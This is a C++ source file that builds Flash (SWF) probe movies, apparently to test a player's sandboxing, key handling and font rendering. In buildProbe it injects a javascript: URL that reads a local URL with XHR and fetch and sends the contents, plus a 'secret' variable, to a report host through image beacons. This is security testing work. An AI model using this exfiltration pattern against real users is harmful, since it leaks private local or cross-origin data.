#include "probe.h"

using namespace swf;

namespace {

void load(Actions &a, const std::string &url)
{
    a.push({url, "_level0"});
    a.getUrl2(geturl::LoadVariables);
}

} // namespace

Bytes buildProbe(const std::string &reportBase, const std::string &localUrl)
{
    Movie m(200, 100, 24, Rgba{0x20, 0x20, 0x20, 0xff});

    Actions start;
    load(start, reportBase + "hello");
    load(start, localUrl);
    const std::string script =
        "javascript:(function(){var u='" + localUrl + "',r='" + reportBase + "page?';"
        "function send(k,v){var i=new Image();i.src=r+k+'='+encodeURIComponent(String(v).slice(0,200));}"
        "try{var x=new XMLHttpRequest();x.open('GET',u);x.onload=function(){send('xhr',x.responseText)};"
        "x.onerror=function(){send('xhr','error')};x.send();}catch(e){send('xhr','thrown')}"
        "try{fetch(u).then(function(a){return a.text()}).then(function(t){send('fetch',t)},"
        "function(){send('fetch','error')})}catch(e){send('fetch','thrown')}})();void 0";
    start.push({script, ""});
    start.getUrl2(geturl::MethodNone);
    start.push({"polls", 0});
    start.op(op::SetVariable);
    m.main().doAction(start);
    m.main().showFrame();

    Actions check;
    check.push({"secret"});
    check.op(op::GetVariable);
    check.op(op::Not);
    check.ifTrue("none");
    check.push({reportBase + "leak?d="});
    check.push({"secret"});
    check.op(op::GetVariable);
    check.op(op::Add2);
    check.push({"_level0"});
    check.getUrl2(geturl::LoadVariables);
    check.op(op::Stop);
    check.jump("end");
    check.label("none");
    check.push({"polls", "polls"});
    check.op(op::GetVariable);
    check.op(op::Increment);
    check.op(op::SetVariable);
    check.push({"polls"});
    check.op(op::GetVariable);
    check.push({40});
    check.op(op::Less2);
    check.ifTrue("end");
    load(check, reportBase + "done");
    check.op(op::Stop);
    check.label("end");
    m.main().doAction(check);
    m.main().showFrame();

    Actions again;
    again.gotoFrame(1);
    again.op(op::Play);
    m.main().doAction(again);
    m.main().showFrame();
    return m.finish();
}

Bytes buildKeyProbe(const std::string &reportBase)
{
    Movie m(200, 100, 24, Rgba{0x20, 0x30, 0x40, 0xff});
    Shape pad;
    pad.use(pad.solidFill(rgb(0x4a6572)));
    pad.rect(0, 0, 200 * 20, 100 * 20);
    const uint16_t padShape = m.defineShape(pad);

    // Button key codes of the arrows, and the key codes the movie reports.
    const std::pair<uint8_t, int> arrows[] = {{1, 37}, {14, 38}, {2, 39}, {15, 40}};
    std::vector<ButtonAction> actions;
    for (const auto &[buttonKey, code] : arrows) {
        Actions a;
        a.push({reportBase + "key?code=" + std::to_string(code) + "&ctrl="});
        a.push({17, 1, "Key"});
        a.op(op::GetVariable);
        a.push({"isDown"});
        a.op(op::CallMethod);
        a.op(op::Add2);
        a.push({"_level0"});
        a.getUrl2(geturl::LoadVariables);
        actions.push_back(ButtonAction{cond::key(buttonKey), a});
    }
    const uint16_t button = m.defineButton(
        {{ButtonState::Up | ButtonState::Over | ButtonState::Down | ButtonState::Hit, padShape, 1, Matrix()}}, actions);

    Actions start;
    load(start, reportBase + "keys-ready");
    start.op(op::Stop);
    PlaceOptions place;
    place.depth = 1;
    place.character = button;
    m.main().place(place);
    m.main().doAction(start);
    m.main().showFrame();
    return m.finish();
}

const char *const kDeviceFontNames[] = {
    "_sans", "_serif", "_typewriter", "_ゴシック", "_等幅", "_明朝", "宋体", "SimSun", "新宋体", "NSimSun",
    "黑体", "SimHei", "微软雅黑", "Microsoft YaHei", "楷体", "KaiTi", "仿宋", "FangSong", "隶书", "LiSu",
    "幼圆", "YouYuan", "Arial", "Times New Roman", "Courier New"};
const int kDeviceFontCount = int(sizeof kDeviceFontNames / sizeof kDeviceFontNames[0]);

std::string deviceFontText(int i)
{
    return i >= kDeviceFontCount - 3 ? "Latin Text 123" : "中文游戏开始";
}

uint32_t deviceFontColour(int i)
{
    static const uint32_t colours[] = {0xE6194B, 0x3CB44B, 0x4363D8, 0xF58231, 0x911EB4, 0x008080, 0xF032E6};
    return colours[i % 7];
}

Bytes buildFontProbe(const std::string &reportBase)
{
    Movie m(800, 570, 30, Rgba{0xff, 0xff, 0xff, 0xff});
    Shape cells;
    const int light = cells.solidFill(rgb(0xEEEEEE)), dark = cells.solidFill(rgb(0xDDDDDD));
    for (int c = 0; c < 28; ++c) {
        cells.use(((c % 4) + c / 4) % 2 == 0 ? light : dark);
        cells.rect(200 * 20 * (c % 4), 80 * 20 * (c / 4), 200 * 20, 80 * 20);
    }
    PlaceOptions back;
    back.depth = 1;
    back.character = m.defineShape(cells);
    m.main().place(back);

    Actions send;
    send.push({reportBase + "fonts?n=" + std::to_string(kDeviceFontCount)});
    for (int i = 0; i < kDeviceFontCount; ++i) {
        const uint16_t font = m.nextId(), field = m.nextId();
        m.main().raw(deviceFontTag(font, kDeviceFontNames[i]));
        m.main().raw(editTextTag(field, font, rgb(deviceFontColour(i)), deviceFontText(i)));
        const Matrix at = Matrix::translate((10 + 200 * (i % 4)) * 20, (10 + 80 * (i / 4)) * 20);
        PlaceOptions o;
        o.depth = uint16_t(10 + i);
        o.character = field;
        o.matrix = &at;
        o.name = "f" + std::to_string(i);
        m.main().place(o);
        for (const char *what : {"textWidth", "textHeight"}) {
            send.push({std::string("&") + what[4] + std::to_string(i) + "="}); // &W0= and &H0=
            send.op(op::Add2);
            send.push({o.name});
            send.op(op::GetVariable);
            send.push({what});
            send.op(op::GetMember);
            send.op(op::Add2);
        }
    }
    send.push({"_level0"});
    send.getUrl2(geturl::LoadVariables);
    send.op(op::Stop);
    m.main().doAction(send);
    m.main().showFrame();
    return m.finish();
}
